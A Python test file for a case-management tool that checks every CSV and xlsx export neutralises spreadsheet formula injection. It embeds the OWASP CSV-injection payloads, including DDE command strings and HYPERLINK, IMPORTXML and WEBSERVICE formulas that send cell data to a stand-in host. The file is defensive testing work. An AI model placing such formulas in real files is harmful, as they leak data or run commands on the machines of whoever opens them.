"""Formula injection: every CSV and xlsx cmtool writes is inert in a spreadsheet.

Cases carry the OWASP CSV-injection payloads in every text field (written the way a
case file arrives from another clone: input checks may refuse some of them, a synced
file still holds them). Each writer's output is read back: no cell may start a
formula, and every payload must be there, neutralised (a leading apostrophe in CSV,
a quoted text cell in xlsx), so nothing is lost.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from pathlib import Path
from types import MappingProxyType

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cmtool.model.case import Case
from cmtool.model.events import Event
from cmtool.model.ids import new_id
from cmtool.model.timefmt import parse_time
from cmtool.reports.excel import write_workbook
from cmtool.reports.jinja_env import make_environment
from cmtool.reports.sheetspec import parse_spec
from cmtool.services.context import commit_message, make_context
from cmtool.store.transaction import transaction

# OWASP "CSV Injection" (payloads and the characters it lists), plus the full-width
# forms Chinese input methods type and a leading space that some programs trim.
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "＝1+2",
    "－1+cmd|' /C calc'!A0",
]
# Independent of the code under test: what a spreadsheet would evaluate.
DANGER = re.compile(r"^[ \u00a0\u3000]*[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
# What an xlsx file cannot hold (XML 1.0 allows tab, LF and CR of the C0 controls).
CONTROL_CHARS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
NOW = "2025-11-21T17:30:00+08:00"
LATER = {"CMTOOL_NOW": "2025-12-02T17:30:00+08:00"}
FIELDS = ("title", "customer", "contact", "product", "region", "assignee", "description", "root_cause")
# cmtool refuses control characters in case fields and notes (they could forge commit
# trailers or rewrite a terminal), so the payloads that start with one reach the
# writers without it: "=1+2", still a formula.
CONTROL = tuple(p for p in OWASP if p[0] in "\t\r\n")


def dangerous(cell: object) -> bool:
    return isinstance(cell, str) and bool(DANGER.match(cell)) and not NUMBER.match(cell)


def seed(ws: Path) -> list[str]:
    """One case per payload, every text field holding it, plus a note with it;
    committed as cmtool commits (the audit export reads them as ordinary history)."""
    ctx = make_context(ws, "@SUM(1+1)*cmd", NOW)
    ids = []
    with transaction(ctx.ws) as tx:
        for payload in OWASP:
            line = payload.lstrip("\t\r\n")
            state = dict.fromkeys(FIELDS, line) | {
                "status": "new",
                "channel": "phone",
                "filed_at": NOW,
            }
            filed = Event(NOW, ctx.actor, "file", MappingProxyType({k: (None, v) for k, v in state.items()}))
            case_id = new_id(parse_time(NOW))
            case = Case(case_id, MappingProxyType({}), ()).with_event(filed)
            case = case.with_event(Event(NOW, ctx.actor, "note", MappingProxyType({}), line))
            tx.put(case, None)
            ids.append(case_id)
        tx.commit(commit_message("file payloads", "file", ctx.actor, ids), ctx.identity, NOW)
    return ids


def read(path: Path) -> str:
    """A CSV file's text exactly (no newline translation; a BOM dropped)."""
    return path.read_bytes().decode("utf-8-sig")


def check_csv(text: str, where: str, expected: int, strip: bool = False) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells, where
    bad = [cell for cell in cells if dangerous(cell)]
    assert not bad, f"{where}: formula cells {bad[:5]}"
    neutralised = [p for p in OWASP if "'" + (p.strip() if strip else p) in cells]
    assert len(neutralised) >= expected, f"{where}: only {len(neutralised)} payloads found neutralised"


def check_xlsx(path: Path, where: str) -> None:
    book = load_workbook(path)
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and DANGER.match(cell.value):
                    assert cell.quotePrefix, f"{where}: {sheet.title}!{cell.coordinate} is not quoted"
                    found.add(cell.value)
    # Every payload is kept exactly (xlsx drops only a bare CR, which it cannot hold).
    assert len([p for p in OWASP if p in found]) >= len(OWASP) - len(CONTROL), (where, sorted(found))


def test_every_writer_neutralises_the_owasp_list(ws, cli, tmp_path):
    ids = seed(ws)
    assert cli("validate", cwd=ws).code in (0, 1)

    listed = cli("list", "--csv", cwd=ws)
    assert listed.code == 0, listed.err
    check_csv(listed.out, "list --csv", len(OWASP) - len(CONTROL))

    piped = cli("list", cwd=ws)  # tab-separated lines, which a spreadsheet also opens
    assert piped.code == 0, piped.err
    cells = [cell for line in piped.out.splitlines() for cell in line.split("\t")]
    assert not [cell for cell in cells if dangerous(cell)]
    assert "'=cmd|' /C calc'!A0" in cells

    assert cli("export", "-o", str(tmp_path / "export.csv"), "--show-pii", cwd=ws).code == 0
    check_csv(read(tmp_path / "export.csv"), "export csv", len(OWASP) - len(CONTROL))
    assert cli("export", "-o", str(tmp_path / "export.xlsx"), "--show-pii", cwd=ws).code == 0
    check_xlsx(tmp_path / "export.xlsx", "export xlsx")

    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"report.{fmt}"
        args = ("report", "compliance", "--period", "2025-11", "-f", fmt, "-o", str(out), "--show-pii")
        done = cli(*args, cwd=ws, env=LATER)
        assert done.code == 0, done.err
    assert all(case_id in read(tmp_path / "report.csv") for case_id in ids)
    check_csv(read(tmp_path / "report.csv"), "report csv", len(OWASP) - len(CONTROL))
    check_xlsx(tmp_path / "report.xlsx", "report xlsx")

    bundle = tmp_path / "audit"
    audited = cli("audit", "export", "--period", "2025-11", "-o", str(bundle), cwd=ws, env=LATER)
    assert audited.code in (0, 1), audited.err
    check_csv(read(bundle / "events.csv"), "audit events.csv", len(OWASP) - len(CONTROL))
    commits = read(bundle / "commits.csv")
    assert not [cell for row in csv.reader(io.StringIO(commits)) for cell in row if dangerous(cell)]
    assert "'@SUM(1+1)*cmd" in commits  # the actor column

    source = tmp_path / "in.csv"
    with open(source, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["title", "received", "customer"])
        writer.writerows([payload, "not a date", payload] for payload in OWASP)
    rejects = tmp_path / "rejects.csv"
    imported = cli("import", str(source), "--dry-run", "--rejects", str(rejects), cwd=ws)
    assert imported.code in (0, 1, 2), imported.err
    check_csv(read(rejects), "import rejects", len(OWASP), strip=True)  # import trims cells


def test_no_writer_bypasses_the_neutralising_module():
    """CSV and xlsx cells are made only in cmtool/store/cellsafe.py: a new writer that
    calls csv or openpyxl directly would skip the neutralising."""
    package = Path(__file__).resolve().parent.parent / "cmtool"
    direct = re.compile(r"csv\.(writer|DictWriter)\(|WriteOnlyCell\(")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "cellsafe.py" and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert not offenders
    # A module writing xlsx (openpyxl outside the importer, which only reads) builds
    # its cells with cellsafe.xlsx_cell.
    writers = [
        path
        for path in package.rglob("*.py")
        if "openpyxl" in path.read_text(encoding="utf-8")
        and "importing" not in path.parts
        and path.name != "cellsafe.py"
    ]
    assert writers
    assert not [
        str(p.relative_to(package)) for p in writers if "cellsafe" not in p.read_text(encoding="utf-8")
    ]


# Text that may reach a cell: formula starts, leading spaces, control characters,
# error-code look-alikes, long text, and anything else.
CELL_TEXT = st.one_of(
    st.text(max_size=40),
    st.builds(
        lambda lead, start, rest: lead + start + rest,
        st.text(alphabet=" \u00a0\u3000\t\r\n\x00\x07\x1b", max_size=3),
        st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠", "#N/A", "'", "", "a"]),
        st.text(max_size=20),
    ),
    st.just("x" * 40000),
)
CELL_VALUES = st.one_of(
    CELL_TEXT,
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.none(),
    st.datetimes(timezones=st.just(timezone.utc)),
    st.lists(CELL_TEXT, max_size=3),
)
# The same value in a plain column and in one with a number format (every cell of
# which is built and styled): the plain column must store exactly the same.
SPEC = """
sheets:
  - name: Cells
    rows: rows
    columns:
      - {header: Plain, value: row.v}
      - {header: Styled, value: row.v, format: "@"}
      - {header: Row, value: row.n}
"""


@settings(max_examples=30, deadline=None)
@given(values=st.lists(CELL_VALUES, min_size=1, max_size=40))
def test_xlsx_cells_of_any_value_are_inert_and_stored_alike_with_or_without_a_format(
    values, tmp_path_factory
):
    target = tmp_path_factory.mktemp("xlsx") / "cells.xlsx"
    env = make_environment([])
    context = {"rows": [{"v": value, "n": number} for number, value in enumerate(values)]}
    write_workbook(parse_spec(SPEC, "spec"), env, context, target, timezone.utc, "spec")
    sheet = load_workbook(target)["Cells"]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(values)
    for number, (value, (plain, styled, row)) in enumerate(zip(values, rows, strict=True)):
        assert row.value == number
        for cell in (plain, styled):
            assert cell.data_type not in ("f", "e"), (value, cell.value)
            if dangerous(cell.value):
                assert cell.quotePrefix, (value, cell.value)
            if isinstance(cell.value, str):
                assert not CONTROL_CHARS.search(cell.value) and len(cell.value) <= 32767
        if isinstance(value, datetime):  # styled in both columns ("@" shows it as a number)
            assert plain.is_date and plain.number_format == "yyyy-mm-dd hh:mm"
            continue
        assert (plain.value, plain.data_type) == (styled.value, styled.data_type), value
        if isinstance(value, str):
            # XML reads a CR (alone or before LF) back as LF
            kept = CONTROL_CHARS.sub("", value)[:32767].replace("\r\n", "\n").replace("\r", "\n")
            assert plain.value == (kept or None)
            assert plain.quotePrefix == styled.quotePrefix == bool(DANGER.match(kept))


def test_text_that_spells_an_excel_error_stays_text(tmp_path):
    values = ["#N/A", "#DIV/0!", "#REF!", "#NAME?", "#VALUE!", "#NULL!", "#NUM!", "#1 priority"]
    target = tmp_path / "errors.xlsx"
    context = {"rows": [{"v": value, "n": number} for number, value in enumerate(values)]}
    write_workbook(parse_spec(SPEC, "spec"), make_environment([]), context, target, timezone.utc, "spec")
    rows = list(load_workbook(target)["Cells"].iter_rows(min_row=2))
    assert [(plain.value, plain.data_type, styled.value, styled.data_type) for plain, styled, _n in rows] == [
        (value, "s", value, "s") for value in values
    ]
